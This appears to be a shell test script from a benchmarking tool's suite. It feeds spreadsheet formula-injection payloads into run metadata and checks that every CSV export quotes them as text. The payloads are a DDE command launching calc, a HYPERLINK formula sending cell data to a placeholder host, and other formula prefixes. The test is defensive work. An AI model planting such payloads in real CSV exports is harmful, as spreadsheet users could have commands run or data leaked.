#!/bin/sh
# SPDX-License-Identifier: BSD-3-Clause
# csv.sh -- formula injection: a run whose machine, library and suite
# names are spreadsheet formulas (=HYPERLINK(...), =cmd|' /C calc'!A0,
# @SUM(1), +1+1, a leading tab), and every CSV skampi writes of it:
# skampi-db query --format csv, compare --format csv, serve's
# /api/series.csv, publish's csv/K.csv and skampi-report --csv.  Each
# must hold every payload as text (a quote before it, lib/csvcell.h)
# and no cell that a spreadsheet would run.
# skampi-db is not built where configure left it out (--disable-db, or
# its libraries missing: SK_WITH_DB=no, tests/local.mk)
if [ "${SK_WITH_DB:-yes}" = no ]; then
  echo "SKIP: skampi-db is not built (configure: --disable-db, or SQLite, libcurl, libmicrohttpd or dygraphs missing)"
  exit 77
fi
. "${top_srcdir:-.}/tests/web/lib.sh"
command -v python3 > /dev/null || { echo "SKIP: no python3"; exit 77; }
REPORT=$BUILD/report/skampi-report
F=$TMP/formula
mkdir -p "$F"
# the payloads, as YAML double-quoted strings
sed -e 's|^  MACHINE: .*|  MACHINE: "=HYPERLINK(\\"http://x.example/?\\"\&A1,\\"click\\")"|' \
    -e 's|^  mpi_library: .*|  mpi_library: "@SUM(1)"|' \
    -e 's|^  - name: pingpong$|  - name: "=cmd\|'"'"' /C calc'"'"'!A0"|' \
    -e 's|^  - name: barrier$|  - name: "\\t=1+1"|' \
    "$SRC/tests/tools/runs/a2.yaml" > "$F/f1.yaml"
sed -e 's|^  MACHINE: .*|  MACHINE: "+1+1"|' \
    -e 's|^  - name: pingpong$|  - name: "=cmd\|'"'"' /C calc'"'"'!A0"|' \
    -e 's|^  - name: barrier$|  - name: "\\t=1+1"|' \
    "$SRC/tests/tools/runs/a3.yaml" > "$F/f2.yaml"
db import "$F/f1.yaml" "$F/f2.yaml" > "$F/ids" 2>&1 || fail "import the formulas"
first=$(sed -n 's|^.*/f1.yaml: run \([0-9]*\),.*|\1|p' "$F/ids")
second=$(sed -n 's|^.*/f2.yaml: run \([0-9]*\),.*|\1|p' "$F/ids")

db query "$first" "$second" --suite "=cmd|' /C calc'!A0" --format csv > "$F/query.csv" ||
  fail "query --format csv"
db compare --baseline "$first" --candidate "$second" --format csv > "$F/compare.csv"
case $? in 0|5|6) ;; *) fail "compare --format csv" ;; esac   # 6: inconclusive
"$REPORT" --csv "$F/report" -o "$F/report.pdf" "$F/f1.yaml" > /dev/null 2>&1 ||
  fail "skampi-report --csv"
db publish -q "$F/site" "$first" "$second" || fail "publish"
start_server
python3 - "$URL" "$first" "$second" > "$F/series.csv" <<'PY' || fail "series.csv"
import sys, urllib.parse, urllib.request
q = urllib.parse.urlencode({"sel": sys.argv[2] + " " + sys.argv[3],
                            "suite": ["=cmd|' /C calc'!A0", "\t=1+1"]},
                           doseq=True)
with urllib.request.urlopen(sys.argv[1] + "/api/series.csv?" + q,
                            timeout=60) as r:
    sys.stdout.write(r.read().decode())
PY
stop_server

python3 - "$F" <<'PY' || fail "a formula in a CSV"
import csv, glob, os, sys
F = sys.argv[1]
payloads = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1)",
            "=cmd|' /C calc'!A0", "\t=1+1", "+1+1"]
files = [F + "/query.csv", F + "/compare.csv", F + "/series.csv"]
files += glob.glob(F + "/site/csv/*.csv") + glob.glob(F + "/report/*.csv")
bad, seen = 0, set()
for f in files:
    rows = list(csv.reader(open(f, newline="", encoding="utf-8")))
    if len(rows) < 2:
        print(f"{f}: no rows"); bad += 1
    for row in rows:
        for cell in row:
            # a number may be negative; a text never starts a formula
            try:
                float(cell)
                continue
            except ValueError:
                pass
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                print(f"{os.path.basename(f)}: a formula: {cell!r}"); bad += 1
            if cell.startswith("'") and cell[1:] in payloads:
                seen.add((os.path.basename(os.path.dirname(f)) + "/" +
                          os.path.basename(f), cell[1:]))
print(sorted(seen), file=sys.stderr)
want = {("csv/query.csv", "=cmd|' /C calc'!A0"), ("csv/query.csv", "@SUM(1)"),
        ("csv/query.csv", payloads[0]), ("csv/compare.csv", "=cmd|' /C calc'!A0"),
        ("csv/series.csv", payloads[0]), ("csv/series.csv", "\t=1+1"),
        ("csv/series.csv", "+1+1")}
want = {("formula/" + w.split("/")[1], p) for w, p in want}
for w in sorted(want - seen):
    print("not kept as text:", w); bad += 1
if not any(p == "=cmd|' /C calc'!A0" for d, p in seen if d.startswith("report/")):
    print("skampi-report's CSV lacks the suite as text"); bad += 1
if not any(d.startswith("csv/") for d, p in seen):
    print("publish's CSV lacks the payloads as text"); bad += 1
sys.exit(1 if bad else 0)
PY
exit $((failures > 0))
